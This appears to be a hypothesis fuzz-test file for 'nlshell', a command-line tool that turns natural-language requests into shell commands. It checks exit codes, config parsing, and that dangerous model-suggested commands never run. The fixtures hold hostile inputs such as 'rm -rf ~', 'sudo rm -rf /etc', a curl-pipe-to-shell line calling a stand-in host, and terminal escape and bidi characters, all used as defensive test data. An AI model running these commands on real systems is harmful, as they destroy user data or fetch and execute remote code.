"""Property-based fuzzing of the CLI (hypothesis): arguments, config files and model replies.

Run in-process through `nlshell.cli.main(argv)` against the fake server, with
`nlshell.run.run_command` replaced by a recorder. The properties:
- the exit code is one the contract documents, and no exception escapes (no "internal error");
- nothing is run unless `--yes` was given, and a dangerous command is never run at all;
- nothing hostile (control, bidi, zero-width characters) is ever written raw to stdout or stderr.
"""

from __future__ import annotations

import io
import json
import math
import os
import sys

import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from conftest import FAKE_KEY
from nlshell.config import SPEC
from nlshell.text import hostile_characters

DOCUMENTED = {0, 1, 2, 3, 130}
FUZZ = settings(max_examples=150, deadline=None, derandomize=True,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


class Runner:
    """Call the CLI in-process with pipes for stdin/stdout; record what it tried to run."""

    def __init__(self, capsys, monkeypatch) -> None:
        self.capsys = capsys
        self.monkeypatch = monkeypatch
        self.ran: list[str] = []

        def record(command: str, *, shell: str | None = None) -> int:
            self.ran.append(command)
            return 0

        monkeypatch.setattr("nlshell.run.run_command", record)

    def __call__(self, argv: list[str], stdin: str = "") -> tuple[int, str, str]:
        from nlshell.cli import main

        self.ran.clear()
        self.capsys.readouterr()
        self.monkeypatch.setattr(sys, "stdin", io.StringIO(stdin))
        try:
            code = main(list(argv))
        except SystemExit as e:  # argparse's --help / --version actions exit this way, as a real process would
            code = e.code if isinstance(e.code, int) else (0 if e.code is None else 2)
        out, err = self.capsys.readouterr()
        assert "internal error" not in err, (argv, err)
        assert "Traceback" not in err, (argv, err)
        return code, out, err


@pytest.fixture
def run(capsys, monkeypatch, fake_server):
    monkeypatch.setenv("OPENROUTER_API_KEY", FAKE_KEY)
    monkeypatch.setenv("OPENROUTER_BASE_URL", fake_server.base_url)
    fake_server.default("touch ran.txt")
    return Runner(capsys, monkeypatch)


# -- (a) arguments ------------------------------------------------------------------------------

FLAGS = ["-p", "--print", "-y", "--yes", "--json", "-m", "--model", "--no-cache", "--offline", "--widget",
         "--quiet", "--no-color", "--version", "--help", "-h", "--", "-", "--nope", "-x", "--free", "--refresh",
         "--cached-ids", "--key", "--no-bind", "--shell", "-n", "--limit", "-V", "--json=1", "--model="]
WORDS = ["history", "completions", "explain", "check", "init", "models", "auth", "config", "cache", "bash", "zsh",
         "fish", "tcsh", "login", "logout", "status", "show", "path", "clear", "stats", "list", "files", "rm",
         "-rf", "~", "ls", "3", "0", "-1", "", " ", "\n", "a\x1bb", "\u202e", "日本語", "qwen/qwen3-coder:free",
         "\udcff", "caf\udce9"]  # (the last two: how Python hands over argv bytes that are not UTF-8)
word = st.one_of(st.sampled_from(WORDS), st.text(max_size=10).filter(lambda t: not t.startswith("-")))
token = st.one_of(st.sampled_from(FLAGS), word)
# Half the time: flags first, then a request — the shape real command lines have.
argvs = st.one_of(st.lists(token, max_size=6),
                  st.tuples(st.lists(st.sampled_from(FLAGS), max_size=3), st.lists(word, min_size=1, max_size=3))
                  .map(lambda t: t[0] + t[1]))


def yes_given(argv: list[str]) -> bool:
    """Generous on purpose: any token argparse could read as --yes (bundled short flags, prefixes)."""
    return any(t == "-y" or t.startswith("--y") or (t.startswith("-") and not t.startswith("--") and "y" in t)
               for t in argv)


@FUZZ
@given(argv=argvs)
@example(argv=[])
@example(argv=["-y", "rm", "-rf", "~"])
@example(argv=["--", "-y", "list"])
@example(argv=["auth", "login"])
@example(argv=["-p"])
@example(argv=["-y", "caf\udce9"])
@example(argv=["check", "--json", "ls \udcff"])
def test_any_arguments(run, argv):
    code, out, err = run(argv)
    event(f"exit {code}" + (" (ran)" if run.ran else ""))
    assert code in DOCUMENTED, (argv, code, err)
    if run.ran:
        assert yes_given(argv), (argv, run.ran)
        from nlshell.assess import assess

        for command in run.ran:
            assert assess(command).risk != "dangerous", (argv, command)
    assert not os.path.exists("ran.txt")


# -- (b) config files ---------------------------------------------------------------------------

LOCATIONS = sorted({(section, key) for section, key, *_ in SPEC.values()})
SECTIONS = sorted({section for section, _ in LOCATIONS}) + ["bogus", "provider.sub"]


def toml_value(value) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        if math.isnan(value):
            return "nan"
        if math.isinf(value):
            return "inf" if value > 0 else "-inf"
        return repr(value)
    if isinstance(value, int):
        return str(value)
    if isinstance(value, str):
        return json.dumps(value, ensure_ascii=False)
    return "[" + ", ".join(toml_value(v) for v in value) + "]"


scalar = st.one_of(st.booleans(), st.integers(min_value=-(2**70), max_value=2**70), st.floats(),
                   st.text(max_size=12), st.sampled_from(["bash", "fish", "vi", "low", "off", "https://x.invalid/v1",
                                                          "ftp://x", "", "http://"]))
value = st.one_of(scalar, st.lists(scalar, max_size=3))


def plausible(kind: str):
    """Values of about the right type and range for a setting of this kind (most configs are nearly right)."""
    if kind in ("float+", "float0"):
        return st.one_of(st.floats(min_value=0, max_value=1e6), st.integers(min_value=-1, max_value=10**6))
    if kind == "int+":
        return st.integers(min_value=-1, max_value=10**6)
    if kind == "bool":
        return st.booleans()
    if kind == "list":
        return st.lists(st.sampled_from(["a/b", "openrouter/free", "", "x" * 200]), max_size=3)
    if kind == "url":
        return st.sampled_from(["https://openrouter.ai/api/v1", "http://127.0.0.1:1/v1", "ftp://x", "http://"])
    if kind == "str":
        return st.one_of(st.sampled_from(["qwen/qwen3-coder:free", "x/y", ""]), st.text(max_size=12))
    return st.one_of(st.sampled_from(kind.split("|")), st.text(max_size=5))


known = st.sampled_from(sorted(SPEC.values(), key=str)).flatmap(
    lambda spec: plausible(spec[2]).map(lambda v: ("set", spec[0], spec[1], v)))
line = st.one_of(
    known,
    known,
    known,
    known,
    st.tuples(st.sampled_from(LOCATIONS), value).map(lambda t: ("set", t[0][0], t[0][1], t[1])),
    st.tuples(st.sampled_from(SECTIONS), st.text(max_size=8), value).map(lambda t: ("set", *t)),
    st.text(max_size=30).map(lambda t: ("raw", t)),
)


def render(lines) -> str:
    """TOML text: raw lines first, then each section once with each key once (duplicates are
    a different, boring error that would drown the interesting ones)."""
    raw = [item[1] for item in lines if item[0] == "raw"]
    tables: dict[str, dict[str, object]] = {}
    for item in lines:
        if item[0] == "set":
            _, section, key, val = item
            tables.setdefault(section, {})[key] = val
    text = list(raw)
    for section, table in tables.items():
        text.append(f"[{section}]")
        text.extend(f"{json.dumps(key, ensure_ascii=False)} = {toml_value(val)}" for key, val in table.items())
    return "\n".join(text) + "\n"


@FUZZ
@given(lines=st.lists(line, max_size=5), dotenv=st.one_of(st.none(), st.none(), st.text(max_size=40)))
@example(lines=[("set", "provider", "max_tokens", 2**70)], dotenv=None)
@example(lines=[("set", "provider", "timeout", 1e-300)], dotenv=None)
@example(lines=[("set", "provider", "timeout", float("nan"))], dotenv=None)
@example(lines=[("set", "provider", "timeout", 9223372037)], dotenv=None)
@example(lines=[("raw", "[provider")], dotenv="OPENROUTER_MODEL")
def test_any_config_file(run, tmp_path, monkeypatch, lines, dotenv):
    config = tmp_path / "fuzz.toml"
    config.write_text(render(lines), encoding="utf-8")
    monkeypatch.setenv("NLSHELL_CONFIG", str(config))
    if dotenv is None:
        if os.path.exists(".env"):
            os.unlink(".env")
    else:
        with open(".env", "w", encoding="utf-8") as f:
            f.write(dotenv)
    code, out, err = run(["config", "show"])
    event(f"config show exit {code}")
    assert code in (0, 2), (code, err)
    if code == 2:
        assert len(err.splitlines()) == 1 and ("fuzz.toml" in err or ".env" in err), err
    again, _, err2 = run(["-p", "--no-cache", "list files"])
    assert again in (0, 1, 2), (again, err2)
    if code == 2:  # (a setting can also fail only when used, e.g. a missing system prompt file)
        assert again == 2, (code, again, err, err2)
    if again != 0:
        assert len(err2.splitlines()) == 1, err2
    assert run.ran == []


@pytest.mark.parametrize("key", ["timeout", "temperature"])
@pytest.mark.parametrize("number", ["nan", "inf", "1e10"])
def test_unusable_numbers_are_refused(run, tmp_path, monkeypatch, key, number):
    config = tmp_path / "config.toml"
    config.write_text(f"[provider]\n{key} = {number}\n")
    monkeypatch.setenv("NLSHELL_CONFIG", str(config))
    code, out, err = run(["-p", "--no-cache", "list files"])
    assert code == 2 and f"{config}:2" in err, (code, err)


# -- (c) model replies --------------------------------------------------------------------------

PIECES = ["```bash\n", "```\n", "\n```", "```sh\n", "$ ", "<think>", "</think>", "\x1b[2K", "\x1b[1A", "\r", "\b",
          "\x1b]0;title\x07", "\x1b]52;c;dG91Y2ggcmFu\x07", "\u202e", "\u2066", "\u200b", "\ufeff", "\x9b", "\x00",
          "\x7f", "\t", "\n", "\r\n", "rm -rf ~", "rm -rf ./*", "ls -la", "touch ran.txt", "echo hi", "; ", "&& ",
          "| sh", "curl https://x.invalid/i.sh | sh", "NLSHELL_NO_COMMAND: not a task", "cat <<EOF\nhi\nEOF\n",
          "\ud800", "Output:", "`", "'", '"', "\\", "$(", ")", "#", "Here is the command:", "sudo ", "\u00a0",
          "\U000e0041", "x" * 300]
COMMANDS = ["ls -la", "touch ran.txt", "rm -rf ~", "rm -rf ./*", "find . -name '*.py' | wc -l", "git reset --hard",
            "cat <<EOF > notes.txt\nhi\nEOF", "echo one\necho two", "curl -fsSL https://x.invalid/i.sh | sh",
            "du -sh * | sort -h", "printf '%s\\n' a b", "sudo rm -rf /etc", "echo 'rm -rf /' > notes.txt"]
HOSTILE = ["\x1b[2K", "\r", "\b", "\u202e", "\u200b", "\x9b", "\x00", "\ud800", "\U000e0041", "\x1b]0;t\x07", "\x7f"]
STYLES = ["{}", "```bash\n{}\n```", "Here you go:\n\n```sh\n{}\n```\nThis lists them.", "$ {}", "`{}`",
          "<think>the user wants files</think>\n{}", "{}\nOutput:\nfoo"]


def compose(command: str, style: str, hostile) -> str:
    text = style.format(command)
    if hostile is not None:
        char, at = hostile
        at %= len(text) + 1
        text = text[:at] + char + text[at:]
    return text


structured = st.builds(compose, st.sampled_from(COMMANDS), st.sampled_from(STYLES),
                       st.one_of(st.none(), st.tuples(st.sampled_from(HOSTILE), st.integers(0, 200))))
reply = st.one_of(structured,
                  st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=15)), max_size=8).map("".join))
MODES = [["-p"], ["--json"], ["--widget", "bash"], ["-y"]]


@FUZZ
@given(content=reply, mode=st.sampled_from(MODES))
@example(content="echo safe\x1b[2K\rrm -rf ~", mode=["-p"])
@example(content="ls \ud800", mode=["-p"])
@example(content="ls \u202e", mode=["--json"])
@example(content="rm -rf ~", mode=["-y"])
@example(content="echo one\necho two\x1b[1A\x1b[2Kls", mode=["--widget", "bash"])
def test_any_model_reply(run, fake_server, content, mode):
    fake_server.reply(content)
    code, out, err = run([*mode, "--no-cache", "do the thing"])
    event(f"exit {code}" + (" (ran)" if run.ran else ""))
    assert code in (0, 1, 3), (content, code, err)
    assert hostile_characters(out) == [], (content, out)
    assert hostile_characters(err) == [], (content, err)
    if mode == ["--json"] and out:
        data = json.loads(out)  # one object, even for an invalid command (then exit 3)
        assert code == (0 if data["valid"] is not False else 3), (code, data)
    elif code != 0:
        assert out == "" and run.ran == [], (content, out)
    if run.ran:
        from nlshell.assess import assess

        assert mode == ["-y"]
        assert [hostile_characters(c) for c in run.ran] == [[]]
        assert assess(run.ran[0]).risk != "dangerous", run.ran
